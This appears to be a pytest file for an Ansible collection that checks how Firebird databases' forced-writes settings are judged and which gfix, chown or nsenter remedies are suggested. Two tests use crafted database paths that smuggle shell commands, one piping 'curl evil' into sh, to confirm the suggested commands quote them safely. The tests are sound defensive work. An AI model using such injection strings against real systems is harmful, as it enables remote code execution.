# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a profile wants of Firebird's databases, and what a run may do about each."""

from __future__ import annotations

import re
import shlex
from typing import Any

import pytest

from ...fakes.small_host import SmallHost
from .test_engines import FDB as PATH
from .test_engines import (
    database,
    instance,
    judged,
    row,
)


def found(*databases: dict[str, Any], **given: Any) -> dict[str, Any]:
    host = given.pop("host", None)
    return judged(instance("firebird", databases=list(databases), **given), host=host)


def settings(**words: str) -> dict[str, Any]:
    rest = {"running": "unknown", "source": "firebird.conf", "reason": None, "from": None}
    return {name: {**rest, "persisted": word} for name, word in words.items()}


@pytest.mark.fact(34)
@pytest.mark.parametrize(
    ("words", "running", "verdict", "planned", "remedy"),
    [
        ({}, "on", "ok", False, ""),
        ({"running": "on", "in_use": "yes"}, "on", "ok", False, ""),
        ({"forced_writes": "off"}, "off", "drift_running", True, "run harden_db"),
        # Who has it open writes as before: the header alone is no proof.
        (
            {"running": "off", "in_use": "yes"},
            "off",
            "drift_running",
            False,
            "run again when no client has it open",
        ),
        (
            {"forced_writes": "off", "running": "off", "in_use": "yes"},
            "off",
            "drift_running",
            False,
            "run again when no client has it open",
        ),
        (
            {"forced_writes": "off", "running": "on", "in_use": "yes"},
            "on",
            "drift_persisted",
            False,
            "run again when no client has it open",
        ),
        ({"forced_writes": "off", "mode": "shutdown"}, "off", "drift_running", False, "gfix -online"),
        ({"forced_writes": "off", "mode": "read_only"}, "off", "ok", False, ""),
        ({"forced_writes": "off", "owner": "0"}, "off", "drift_running", False, "chown"),
        (
            {"forced_writes": "off", "in_use": "unknown"},
            "off",
            "drift_running",
            False,
            "correct the error that the reason names",
        ),
        ({"forced_writes": "unknown", "mode": "backup"}, "unknown", "unknown", False, "after its backup"),
        (
            {"running": "unknown", "in_use": "yes"},
            "unknown",
            "unknown",
            False,
            "correct the error that the reason names",
        ),
    ],
)
def test_each_database_is_its_own(
    words: dict[str, str], running: str, verdict: str, planned: bool, remedy: str
) -> None:
    facts = found(database(**words))
    seen = row(facts, "forced_writes")
    assert (seen["running"], seen["verdict"], seen["target"]) == (running, verdict, PATH)
    assert seen["persisted"] == words.get("forced_writes", "on")
    assert remedy in seen["remedy"]
    targets = [{"database": PATH, "forced_writes": "on"}]
    assert facts["plan"]["tighten"].get("firebird") == (targets if planned else None)
    at_risk = verdict != "ok" and running == "off"
    assert (facts["verdict"] == "at_risk") == at_risk


def test_a_name_that_looks_like_advice_is_in_quotes_and_a_word_of_the_command() -> None:
    hostile = "/srv/fb/a; curl evil|sh #.fdb"
    result = found(database(path=hostile, running="off", persisted="off", in_use="yes"))
    said = [each for each in result["reasons"] if hostile in each["reason"]]
    assert [each["id"] for each in said] == ["risk.engine_setting"]
    for each in said:
        assert f'"{hostile}"' in each["reason"]
        assert "curl" not in each["fix"].replace(f"'localhost:{hostile}'", "").replace(f"'{hostile}'", "")


def test_a_read_only_database_puts_nothing_at_risk() -> None:
    facts = found(database(forced_writes="off", mode="read_only"))
    assert not any("can be lost" in why for why in facts["why"])


@pytest.mark.parametrize(
    ("given", "remedy"),
    [
        ({"managed_by": "container"}, f"in the container, as the server's user, run gfix -write sync {PATH}"),
        ({"managed_by": "unknown"}, f"as the server's user run gfix -write sync {PATH}"),
        # Its lock files are where gfix does not see them; as root it would leave some that shut the server out.
        ({"namespace": "private"}, f"run nsenter -t 1 -m -S 150 gfix -write sync {PATH}"),
    ],
)
def test_what_is_not_ours_is_left_with_its_remedy(given: dict[str, str], remedy: str) -> None:
    facts = found(database(forced_writes="off"), **given)
    assert remedy in row(facts, "forced_writes")["remedy"]
    assert "firebird" not in facts["plan"]["tighten"]


@pytest.mark.parametrize(
    ("mode", "online"), [("Super", True), ("super", True), ("Classic", False), ("SuperClassic", False)]
)
def test_only_with_super_gfix_reaches_those_who_have_it_open(mode: str, online: bool) -> None:
    facts = judged(
        {
            **instance("firebird", databases=[database(forced_writes="off", running="off", in_use="yes")]),
            "settings": settings(ServerMode=mode),
        }
    )
    assert ("gfix -write sync localhost" in row(facts, "forced_writes")["remedy"]) == online


@pytest.mark.fact(34)
@pytest.mark.parametrize(
    ("words", "said"),
    [
        ({"MaxUnflushedWrites": "-1", "MaxUnflushedWriteTime": "-1"}, "the server never asks it to"),
        ({"MaxUnflushedWrites": "100", "MaxUnflushedWriteTime": "-1"}, "after 100 writes or -1 seconds"),
        ({"MaxUnflushedWrites": "unknown", "MaxUnflushedWriteTime": "5"}, ""),
        ({}, ""),
    ],
)
def test_what_the_servers_settings_mean_without_forced_writes(words: dict[str, str], said: str) -> None:
    off = instance("firebird", databases=[database(forced_writes="off")])
    why = row(judged({**off, "settings": settings(**words)}), "forced_writes")["why"]
    assert "writes wait in memory" in why
    assert why.endswith("to them") if not said else said in why


@pytest.mark.fact(53)
def test_the_engines_own_check_is_named_where_a_database_was_exposed() -> None:
    facts = found(database(forced_writes="off"))
    assert any("gfix -v -full" in check for check in facts["exposed"])


def test_a_database_that_two_servers_know_is_changed_once() -> None:
    both = [instance("firebird", name=name, databases=[database(forced_writes="off")]) for name in ("a", "b")]
    assert judged(*both)["plan"]["tighten"]["firebird"] == [{"database": PATH, "forced_writes": "on"}]


def test_where_loss_is_accepted_forced_writes_stay() -> None:
    """Without them Firebird's pages reach the disk in any order: that corrupts, it does not only lose."""
    from ansible_collections.durable.dbhost.plugins.module_utils.engines.firebird.rules import JUDGE

    assert "firebird" in JUDGE.full and not JUDGE.relaxed


def test_a_server_of_which_nothing_was_observed_is_not_safe() -> None:
    silent = found()
    assert silent["verdict"] == "unknown"
    assert any("its settings are unknown" in why for why in silent["why"])
    for known in (found(database()), found(settings=settings(ServerMode="Super"))):
        assert not any("nothing is known" in why for why in known["why"])


@pytest.mark.parametrize("change", [{"mode": "shutdown"}, {"in_use": "yes"}, {"owner": "0"}])
def test_a_command_to_copy_has_a_path_as_one_word(change: dict[str, str]) -> None:
    path = "/srv/x'; touch /tmp/ran; '$(id).fdb"
    seen = found(database(path=path, forced_writes="off", **change), settings=settings(ServerMode="Super"))
    remedy = row(seen, "forced_writes")["remedy"]
    (begins,) = re.findall(r"(?:gfix|chown) ", remedy)
    said = begins + remedy.partition(begins)[2].rpartition(", ")[0]
    words = shlex.split(said)
    assert words[-1] in (path, f"localhost:{path}"), words
    # Another user may put a link there before the command is run.
    assert words[:2] == ["chown", "-h"] or "chown" not in words


@pytest.mark.parametrize(("physical", "torn"), [("4096", True), ("32768", False)])
def test_a_page_larger_than_a_sector_can_tear(physical: str, torn: bool) -> None:
    host = SmallHost()
    host.disk("sda").physical = physical
    notes = [each for each in found(database(), host=host)["warnings"] if "can tear a page" in each]
    assert bool(notes) is torn
